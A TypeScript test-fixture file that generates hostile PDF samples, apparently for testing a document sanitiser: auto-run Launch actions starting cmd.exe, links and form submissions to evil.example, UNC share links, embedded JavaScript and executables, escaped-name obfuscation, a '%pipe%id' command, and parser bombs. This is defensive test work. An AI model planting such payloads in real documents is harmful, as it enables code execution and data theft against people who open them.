import { deflateSync } from 'node:zlib'
import { CANARY, type HostileFile } from './hostile-file.ts'
import { link, packed, pdf, revised } from './pdf-file.ts'
import { secondPicture } from './pictures.ts'

const action = (what: string, words: string, made: () => Buffer): HostileFile => ({
  what,
  is: 'cleaned',
  kind: 'pdf',
  drops: words.split(' '),
  make: made,
})

const hex = (text: string): string => Buffer.from(`\ufeff${text}`, 'utf16le').swap16().toString('hex')

/** PDF: what happens by itself, or by a click. */
export const actions: readonly HostileFile[] = [
  action('a program starts when it opens', 'OpenAction Launch cmd.exe', () =>
    pdf({ catalog: '/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>' }),
  ),
  action('a page of the web opens when it opens', 'OpenAction evil.example', () =>
    pdf({ catalog: '/OpenAction<</S/URI/URI(http://evil.example/)>>' }),
  ),
  action('another paper on a share opens when it opens', 'OpenAction GoToR share', () =>
    pdf({ catalog: '/OpenAction<</S/GoToR/F(\\\\\\\\files.example\\\\share\\\\a.pdf)/D[0/Fit]>>' }),
  ),
  action('programs start when it is printed, saved, closed', 'AA WillPrint Launch', () =>
    pdf({ catalog: '/AA<</WP<</S/Launch/F(cmd.exe)>>/WC<</S/Launch/F(cmd.exe)>>>>' }),
  ),
  action('a program starts when a page is shown', 'AA Launch cmd.exe', () =>
    pdf({ page: '/AA<</O<</S/Launch/F(cmd.exe)>>>>' }),
  ),
  action('an action under an escaped name', 'OpenAction Launch cmd.exe', () =>
    pdf({ catalog: '/Open#41ction<</S/L#61unch/F(cmd.exe)>>' }),
  ),
  action('an action behind another', 'Launch cmd.exe', () =>
    pdf({ page: link('/S/URI/URI(https://example.com/)/Next<</S/Launch/F(cmd.exe)>>') }),
  ),
  action('a click starts a program', 'Launch cmd.exe', () => pdf({ page: link('/S/Launch/F(cmd.exe)') })),
  action('a click opens a paper on a share', 'GoToR', () => pdf({ page: link(`/S/GoToR/F(${CANARY}.pdf)/D[0/Fit]`) })),
  action('a click opens a paper within', 'GoToE', () => pdf({ page: link('/S/GoToE/T<</R/C/N(a)>>') })),
  action('a click leads to a file', 'file:', () => pdf({ page: link(`/S/URI/URI(file:///C:/Users/${CANARY}/a.doc)`) })),
  action('a click leads to a share', 'files.example', () =>
    pdf({ page: link('/S/URI/URI(\\\\\\\\files.example\\\\share)') }),
  ),
  action('a click leads to a script, written in UTF-16', 'javascript 006a0061', () =>
    pdf({ page: link(`/S/URI/URI<${hex('javascript:alert(1)')}>`) }),
  ),
  action('a link to the web bears a name and a password', 'secret', () =>
    pdf({ page: link(`/S/URI/URI(https://${CANARY}:secret@example.com/)`) }),
  ),
  action('a form is sent to a server', 'SubmitForm evil.example', () =>
    pdf({ page: link('/S/SubmitForm/F<</FS/URL/F(http://evil.example/)>>') }),
  ),
  action('data is taken into a form', 'ImportData', () => pdf({ page: link('/S/ImportData/F(a.fdf)') })),
  action('the named commands of a reader', 'Named Print', () => pdf({ page: link('/S/Named/N/Print') })),
  action('a film and a sound play', 'Movie Sound Rendition', () =>
    pdf({
      page: '/Annots[<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F(a.avi)>>/A true>><</Type/Annot/Subtype/Sound/Rect[0 0 9 9]>><</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition>>>>]',
    }),
  ),
  action('a model in three dimensions', '3D', () =>
    pdf({
      page: '/Annots[<</Type/Annot/Subtype/3D/Rect[0 0 9 9]/3DD 10 0 R>>]',
      objects: { 10: packed('x', '/Type/3D/Subtype/U3D') },
    }),
  ),
  action('a form to fill in computes and is drawn by its reader', 'AcroForm Widget NeedAppearances', () =>
    pdf({
      catalog: '/AcroForm<</NeedAppearances true/Fields[10 0 R]/CO[10 0 R]>>',
      page: '/Annots[10 0 R]',
      objects: {
        10: '<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AP<</N 11 0 R>>>>',
        11: { entries: '/Type/XObject/Subtype/Form/BBox[0 0 9 9]', stream: 'BT (x) Tj ET' },
      },
    }),
  ),
  {
    what: 'a script of the paper',
    is: 'more-inside',
    make: () => pdf({ catalog: '/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>' }),
  },
  {
    what: 'a script under an escaped name',
    is: 'more-inside',
    make: () => pdf({ catalog: '/OpenAction<</S/J#61vaScript/#4a#53(app.alert\\(1\\))>>' }),
  },
  {
    what: 'a script in a list of objects',
    is: 'more-inside',
    make: () =>
      pdf({
        catalog: '/OpenAction 10 0 R',
        objects: { 20: packed('10 0 <</S/JavaScript/JS(app.alert\\(1\\))>>', '/Type/ObjStm/N 1/First 5') },
      }),
  },
  {
    what: 'a file lies in it',
    is: 'more-inside',
    make: () =>
      pdf({
        catalog: '/Names<</EmbeddedFiles<</Names[(a)10 0 R]>>>>',
        objects: { 10: '<</Type/Filespec/F(a.exe)/EF<</F 11 0 R>>>>', 11: packed('MZ') },
      }),
  },
  {
    what: 'a file hangs on a remark',
    is: 'more-inside',
    make: () =>
      pdf({
        page: '/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</EF<</F 11 0 R>>>>>>]',
        objects: { 11: packed('MZ') },
      }),
  },
  {
    what: 'a film of Flash',
    is: 'more-inside',
    make: () => pdf({ page: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<<>>>>]' }),
  },
  {
    what: 'a form of another format (XFA)',
    is: 'more-inside',
    make: () => pdf({ catalog: '/AcroForm<</XFA 10 0 R>>', objects: { 10: packed('<xdp/>') } }),
  },
  {
    what: 'a signed paper',
    is: 'more-inside',
    make: () => pdf({ catalog: '/AcroForm<</Fields[<</FT/Sig/V<</Type/Sig/ByteRange[0 1 2 3]>>>>]>>' }),
  },
  {
    what: 'a field shows a value that only its reader draws',
    is: 'not-understood',
    make: () => pdf({ page: '/Annots[<</Type/Annot/Subtype/Widget/FT/Tx/V(seen by none)/Rect[0 0 9 9]>>]' }),
  },
]

/** A font of these tables, as a paper brings it; none of them draws anything. */
function fontFile(): Buffer {
  const tables = [
    ['head', Buffer.alloc(54)],
    ['name', Buffer.from(CANARY, 'utf16le').swap16()],
  ] as const
  const header = Buffer.alloc(12 + 16 * tables.length)
  header.writeUInt32BE(0x00010000, 0)
  header.writeUInt16BE(tables.length, 4)
  let at = header.length
  for (const [index, [tag, content]] of tables.entries()) {
    header.write(tag, 12 + 16 * index)
    header.writeUInt32BE(at, 12 + 16 * index + 8)
    header.writeUInt32BE(content.length, 12 + 16 * index + 12)
    at += content.length
  }
  return Buffer.concat([header, ...tables.map(([, content]) => content)])
}

/** PDF: what programs leave of whoever wrote. */
export const paperNames: readonly HostileFile[] = [
  {
    what: 'information, an identifier, XMP, the data of a program',
    is: 'cleaned',
    drops: ['Metadata', 'PieceInfo', '4c4a4337303431', '/Info'],
    make: () =>
      pdf({
        catalog: '/Metadata 11 0 R',
        page: `/PieceInfo<</X<</Private(${CANARY})>>>>/LastModified(D:2017)`,
        trailer: '/Info 10 0 R/ID[<4c4a4337303431><4c4a4337303431>]',
        objects: {
          10: `<</Author(${CANARY})/Title<${hex(CANARY)}>>>`,
          11: { entries: '/Type/Metadata', stream: CANARY },
        },
      }),
  },
  {
    what: 'remarks and who made them, and a stamp of somebody',
    is: 'cleaned',
    make: () =>
      pdf({
        page: `/Annots[<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/T(${CANARY})/Contents(${CANARY})>><</Type/Annot/Subtype/Stamp/Rect[0 0 9 9]/T(${CANARY})/NM(${CANARY})/Name/${CANARY}/RC(${CANARY})/AP<</N 10 0 R>>>>]`,
        objects: { 10: { entries: `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Name/${CANARY}`, stream: 'BT (x) Tj ET' } },
      }),
  },
  {
    what: 'what it said before it was changed',
    is: 'cleaned',
    make: () =>
      revised(pdf({ content: { entries: '', stream: `BT /F1 9 Tf (${CANARY}) Tj ET` } }), 4, {
        entries: '',
        stream: 'BT /F1 9 Tf (seen) Tj ET',
      }),
  },
  {
    what: 'objects that nobody refers to',
    is: 'cleaned',
    make: () => pdf({ objects: { 10: `(${CANARY})`, 11: packed(CANARY) } }),
  },
  {
    what: 'words beside the drawing: comments, marks, descriptions, titles of the structure',
    is: 'cleaned',
    make: () =>
      pdf({
        catalog: `/StructTreeRoot 10 0 R/MarkInfo<</Marked true>>/Lang(${CANARY})`,
        content: {
          entries: '',
          stream: `% ${CANARY}\n/Figure<</Alt(${CANARY})/ActualText<${hex(CANARY)}>>>BDC /F1 9 Tf BT (seen) Tj ET EMC /X<</Y(${CANARY})>>DP`,
        },
        objects: { 10: `<</Type/StructTreeRoot/K<</S/P/Alt(${CANARY})/T(${CANARY})>>>>` },
      }),
  },
  {
    what: 'resources, layers, glyphs and inks bear a name',
    is: 'cleaned',
    make: () =>
      pdf({
        catalog: '/OCProperties<</OCGs[10 0 R]/D<</ON[10 0 R]/Order[(x)10 0 R]>>>>',
        resources: `/Properties<</${CANARY} 10 0 R>>/XObject<</${CANARY} 11 0 R>>/ColorSpace<</${CANARY}[/Separation/${CANARY}/DeviceRGB<</FunctionType 2/Domain[0 1]/N 1/C0[0 0 0]/C1[1 1 1]>>]>>`,
        content: { entries: '', stream: `/OC /${CANARY} BDC /${CANARY} Do /${CANARY} cs BT /F1 9 Tf (seen) Tj ET EMC` },
        objects: {
          10: `<</Type/OCG/Name(${CANARY})/Usage<</CreatorInfo<</Creator(${CANARY})>>>>>>`,
          11: { entries: '/Type/XObject/Subtype/Form/BBox[0 0 9 9]', stream: 'q Q' },
        },
      }),
  },
  {
    what: 'fonts of its own bear names, within and without',
    is: 'cleaned',
    make: () =>
      pdf({
        resources: '/X<<>>',
        content: { entries: '', stream: 'BT /F1 9 Tf (seen) Tj ET' },
        page: '/Annots[<</Type/Annot/Subtype/Stamp/Rect[0 0 9 9]/AP<</N 9 0 R>>>>]',
        objects: {
          9: {
            entries: '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F2 10 0 R>>>>',
            stream: 'BT /F2 9 Tf (x) Tj ET',
          },
          10: `<</Type/Font/Subtype/TrueType/BaseFont/ABCDEF+${CANARY}/FontDescriptor 11 0 R/ToUnicode 13 0 R>>`,
          11: `<</Type/FontDescriptor/FontName/ABCDEF+${CANARY}/FontFamily(${CANARY})/Flags 4/FontFile2 12 0 R>>`,
          12: packed(fontFile()),
          13: packed(`% ${CANARY}\n/CMapName /${CANARY} def 1 beginbfchar <41> <0041> endbfchar`),
        },
      }),
  },
  {
    what: 'a profile of colours names a device, and a photograph hides a second one',
    is: 'cleaned',
    make: async () =>
      pdf({
        resources: '/XObject<</I 10 0 R>>',
        objects: {
          10: {
            entries:
              '/Type/XObject/Subtype/Image/Width 8/Height 8/BitsPerComponent 8/ColorSpace[/ICCBased 11 0 R]/Filter/DCTDecode',
            stream: await secondPicture(),
          },
          11: packed(CANARY, '/N 3'),
        },
      }),
  },
  {
    what: 'bytes behind the end of a packed picture',
    is: 'cleaned',
    make: () =>
      pdf({
        resources: '/XObject<</I 10 0 R>>',
        objects: {
          10: {
            entries:
              '/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/FlateDecode',
            stream: Buffer.concat([deflateSync(Buffer.from([255])), Buffer.from(CANARY)]),
          },
        },
      }),
  },
  {
    what: 'bytes before and behind the paper',
    is: 'cleaned',
    make: () => Buffer.concat([Buffer.from(`${CANARY}\n`), pdf(), Buffer.from(`\n${CANARY}\n`)]),
  },
]

/** PDF: what is broken, locked or grows. */
export const brokenPapers: readonly HostileFile[] = [
  {
    what: 'it is encrypted',
    is: 'encrypted',
    make: () => pdf({ trailer: '/Encrypt 10 0 R', objects: { 10: '<</Filter/Standard/V 1/R 2/O(a)/U(b)/P -1>>' } }),
  },
  { what: 'it breaks off', is: 'damaged', make: () => pdf().subarray(0, 300) },
  {
    what: 'it has no page',
    is: 'damaged',
    make: () =>
      Buffer.from(
        '%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Count 0/Kids[]>>\nendobj\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF',
      ),
  },
  {
    what: 'its pages lead back to themselves',
    is: 'damaged',
    make: () => revised(pdf(), 2, '<</Type/Pages/Count 1/Kids[2 0 R]>>'),
  },
  {
    what: 'arrays in arrays, a hundred thousand deep',
    is: 'damaged',
    make: () => pdf({ page: `/X${'['.repeat(100_000)}${']'.repeat(100_000)}` }),
  },
  {
    what: 'forms that draw one another without end',
    is: 'cleaned',
    make: () =>
      pdf({
        resources: '/XObject<</A 10 0 R>>',
        objects: {
          10: {
            entries: '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</A 10 0 R>>>>',
            stream: '/A Do',
          },
        },
      }),
  },
  {
    what: 'a picture in the format of fax machines that was used to break readers (JBIG2)',
    is: 'no-cleaner',
    make: () =>
      pdf({
        resources: '/XObject<</I 10 0 R>>',
        objects: { 10: { entries: '/Type/XObject/Subtype/Image/Width 1/Height 1/Filter/JBIG2Decode', stream: 'x' } },
      }),
  },
  {
    what: 'a string in its drawing never ends',
    is: 'damaged',
    make: () => pdf({ content: { entries: '', stream: 'BT (seen Tj ET' } }),
  },
  {
    what: 'a function in words that are none of arithmetic',
    is: 'not-understood',
    make: () =>
      pdf({
        resources: '/Shading<</S<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 1 1]/Function 10 0 R>>>>',
        objects: { 10: { entries: '/FunctionType 4/Domain[0 1]/Range[0 1]', stream: '{ (%pipe%id) (w) file }' } },
      }),
  },
  {
    what: 'pictures in the drawing itself, twenty thousand',
    is: 'cleaned',
    make: () => {
      const drawn = 'BI /W 1 /H 1 /BPC 8 /CS /G ID x EI '.repeat(20_000)
      return pdf({ content: packed(`${drawn}BT /F1 9 Tf (seen) Tj ET`) })
    },
  },
  {
    what: 'a photograph in the drawing itself',
    is: 'not-understood',
    make: () => pdf({ content: { entries: '', stream: `BI /W 1 /H 1 /F /DCT ID ${CANARY} EI` } }),
  },
  {
    what: 'a picture in the drawing under a name',
    is: 'not-understood',
    make: () => pdf({ content: { entries: '', stream: `BI /W 1 /H 1 /${CANARY} 1 ID x EI` } }),
  },
  {
    what: 'operators nobody knows',
    is: 'cleaned',
    drops: ['evil'],
    make: () => pdf({ content: { entries: '', stream: '/evil evil BT /F1 9 Tf (seen) Tj ET' } }),
  },
]
